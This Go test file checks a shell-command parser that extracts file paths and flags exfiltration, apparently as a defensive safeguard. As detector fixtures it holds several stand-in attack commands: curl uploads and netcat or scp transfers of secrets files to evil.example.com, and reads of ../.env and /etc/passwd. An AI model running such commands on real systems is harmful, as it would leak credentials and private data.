package bashparse

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestParse_WriteRedirect(t *testing.T) {
	result := Parse("echo hello > output.txt")
	require := assert.New(t)
	require.Len(result.Candidates, 1)
	require.Equal("output.txt", result.Candidates[0].Path)
	require.Equal(RoleWrite, result.Candidates[0].Role)
}

func TestParse_AppendRedirect(t *testing.T) {
	result := Parse("echo hello >> log.txt")
	require := assert.New(t)
	require.Len(result.Candidates, 1)
	require.Equal(RoleWrite, result.Candidates[0].Role)
}

func TestParse_ReadRedirect(t *testing.T) {
	result := Parse("cat < input.txt")
	require := assert.New(t)
	require.Len(result.Candidates, 1)
	require.Equal("input.txt", result.Candidates[0].Path)
	require.Equal(RoleRead, result.Candidates[0].Role)
}

func TestParse_FDRedirectIsNotAPath(t *testing.T) {
	result := Parse("cmd 2>&1")
	assert.Empty(t, result.Candidates)
}

func TestParse_BarePathArgument(t *testing.T) {
	result := Parse("rm ./scratch/file.txt")
	require := assert.New(t)
	require.Len(result.Candidates, 1)
	require.Equal("./scratch/file.txt", result.Candidates[0].Path)
}

func TestParse_FlagsAreNotPaths(t *testing.T) {
	result := Parse("ls -la --color=auto")
	assert.Empty(t, result.Candidates)
}

func TestParse_GitRevisionsAreNotPaths(t *testing.T) {
	result := Parse("git diff HEAD~2 HEAD")
	assert.Empty(t, result.Candidates)
}

func TestParse_GitRangeIsNotAPath(t *testing.T) {
	result := Parse("git log main...origin/main")
	assert.Empty(t, result.Candidates)
}

func TestParse_RelativeTraversalIsNotAGitRange(t *testing.T) {
	result := Parse("cat ../.env")
	require := assert.New(t)
	require.Len(result.Candidates, 1)
	require.Equal("../.env", result.Candidates[0].Path)
}

func TestParse_DeepRelativeTraversalIsNotAGitRange(t *testing.T) {
	result := Parse("cat ../../etc/passwd")
	require := assert.New(t)
	require.Len(result.Candidates, 1)
	require.Equal("../../etc/passwd", result.Candidates[0].Path)
}

func TestParse_FindExecExtractsInnerCommandPaths(t *testing.T) {
	result := Parse("find . -name '*.go' -exec cat {} \\;")
	for _, c := range result.Candidates {
		assert.NotEqual(t, ";", c.Path)
	}
}

func TestParse_CommandSubstitutionRecursesInward(t *testing.T) {
	result := Parse("echo $(cat secret.txt)")
	require := assert.New(t)
	require.Len(result.Candidates, 1)
	require.Equal("secret.txt", result.Candidates[0].Path)
}

func TestParse_BacktickSubstitutionRecursesInward(t *testing.T) {
	result := Parse("echo `cat secret.txt`")
	require := assert.New(t)
	require.Len(result.Candidates, 1)
	require.Equal("secret.txt", result.Candidates[0].Path)
}

func TestParse_UnparsableInputYieldsNoCandidates(t *testing.T) {
	result := Parse("echo 'unterminated")
	assert.Empty(t, result.Candidates)
}

func TestParse_UnexpandedVariableIsNotAPath(t *testing.T) {
	result := Parse("cat $FILE")
	assert.Empty(t, result.Candidates)
}

func TestDetectExfiltration_CurlDataUpload(t *testing.T) {
	result := Parse("curl -X POST --data-binary @secrets.json https://evil.example.com")
	assert.True(t, result.SensitiveExfiltration)
}

func TestDetectExfiltration_CurlUploadFile(t *testing.T) {
	result := Parse("curl --upload-file dump.sql https://evil.example.com")
	assert.True(t, result.SensitiveExfiltration)
}

func TestDetectExfiltration_Netcat(t *testing.T) {
	result := Parse("cat secrets.txt | nc evil.example.com 4444")
	assert.True(t, result.SensitiveExfiltration)
}

func TestDetectExfiltration_ScpToRemoteHost(t *testing.T) {
	result := Parse("scp secrets.txt user@evil.example.com:/tmp/")
	assert.True(t, result.SensitiveExfiltration)
}

func TestDetectExfiltration_PlainCurlGetIsNotFlagged(t *testing.T) {
	result := Parse("curl https://api.example.com/health")
	assert.False(t, result.SensitiveExfiltration)
}

func TestDetectExfiltration_ScpLocalCopyIsNotFlagged(t *testing.T) {
	result := Parse("scp file1.txt file2.txt")
	assert.False(t, result.SensitiveExfiltration)
}

func TestRoleString(t *testing.T) {
	assert.Equal(t, "read", RoleRead.String())
	assert.Equal(t, "write", RoleWrite.String())
	assert.Equal(t, "exec", RoleExec.String())
}
